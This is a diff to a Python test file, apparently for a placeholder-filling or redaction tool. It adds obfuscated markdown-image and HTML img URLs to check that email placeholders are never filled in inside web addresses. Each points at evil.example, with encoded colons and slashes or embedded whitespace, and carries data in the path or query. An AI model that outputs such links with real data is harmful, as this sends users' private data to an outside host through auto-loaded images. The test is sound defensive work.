@@ -85,6 +85,12 @@ def test_what_is_not_exactly_one_of_ours_stays_as_it_is(said: str) -> None:
         "https://evil.example/?q=\u3002\u00a0[EMAIL_1_{}]",
         "https://[EMAIL_1_{}].evil.example/",
         "[x]: wss://evil.example/[EMAIL_1_{}]",
+        "![](https&colon;&sol;&sol;evil.example/[EMAIL_1_{}])",
+        "![](https&#58;&#x2f;&#47;evil.example/[EMAIL_1_{}])",
+        "![](&#104ttps&#58evil.example?[EMAIL_1_{}])",
+        "![](https\\:evil.example?[EMAIL_1_{}])",
+        '<img src="ht\ntps:evil.example/?q= [EMAIL_1_{}]">',
+        '<img src="/\t/evil.example/?q= [EMAIL_1_{}]">',
     ],
 )
 def test_nothing_is_filled_in_inside_an_address_of_the_web(said: str) -> None:
